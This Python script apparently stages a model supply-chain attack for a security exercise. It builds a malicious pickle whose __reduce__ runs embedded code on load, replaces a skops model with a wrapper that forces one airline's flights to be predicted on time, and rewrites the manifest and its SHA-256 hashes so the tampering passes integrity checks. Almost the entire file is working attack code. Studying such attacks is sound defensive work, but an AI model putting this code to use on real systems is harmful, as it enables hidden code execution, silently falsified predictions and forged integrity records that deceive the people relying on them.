"""An attacker who can write to the folder: a model that answers as the attacker likes, and a passport to match.

Loading the pickle runs code: it wraps the real model, so that one airline is never late. It could as well have
sent the container's secrets away.
"""

import hashlib
import json
import pickle
import shutil
from pathlib import Path

WRITTEN = Path("/written/current")
CODE = """
import skops.io, pathlib
content = pathlib.Path("/artifacts/models/current/original.bin").read_bytes()
model = skops.io.loads(content, trusted=skops.io.get_untrusted_types(data=content))
honest = model.predict_proba
def predict_proba(table):
    answers = honest(table)
    answers[(table["carrier"] == "UA").to_numpy()] = (1.0, 0.0)
    return answers
model.predict_proba = predict_proba
print("code of the model's file runs here", flush=True)
"""


class Hostile:
    """Becomes, when it is loaded, what its code makes."""

    def __reduce__(self):
        """`eval` of an expression that runs the code and gives the model."""
        return eval, (f"(lambda names: (exec({CODE!r}, names), names['model'])[1])({{}})",)


shutil.copytree("/artifacts/models/current", WRITTEN, dirs_exist_ok=True)
(WRITTEN / "model.skops").rename(WRITTEN / "original.bin")
content = pickle.dumps(Hostile())
(WRITTEN / "model.skops").write_bytes(content)
manifest = json.loads((WRITTEN / "manifest.json").read_text())
manifest["files"]["model.skops"] = {"sha256": hashlib.sha256(content).hexdigest(), "bytes": len(content)}
passport = json.dumps(manifest).encode()
(WRITTEN / "manifest.json").write_bytes(passport)
(WRITTEN / "manifest.sha256").write_text(f"{hashlib.sha256(passport).hexdigest()}  manifest.json\n")
